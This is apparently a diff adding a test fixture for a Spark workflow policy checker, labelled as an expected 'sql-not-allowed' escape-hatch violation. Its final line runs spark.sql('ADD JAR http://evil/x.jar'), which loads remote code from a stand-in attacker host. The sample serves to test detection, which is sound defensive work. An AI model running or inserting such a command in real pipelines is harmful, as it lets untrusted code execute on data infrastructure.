@@ -1,0 +1,4 @@
+# expect: workflow.sql-not-allowed
+# class: 8-escape-hatches
+df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
+result = spark.sql("ADD JAR http://evil/x.jar")
